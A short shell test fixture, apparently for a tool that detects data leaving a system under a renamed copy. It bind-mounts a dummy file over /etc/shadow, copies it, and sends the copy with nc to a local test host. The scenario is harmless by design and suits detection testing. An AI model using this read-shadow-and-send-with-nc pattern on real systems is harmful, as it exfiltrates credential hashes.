# A copy is made under another name, and sent by a program that never opened the file itself.
CALLS=yes
peers() { sink 7000; }
scene() {
  unshare -m sh -c 'seq 200 > s; mount --bind s /etc/shadow; cp /etc/shadow notes'
  nc -N 10.200.1.2 7000 < notes
}
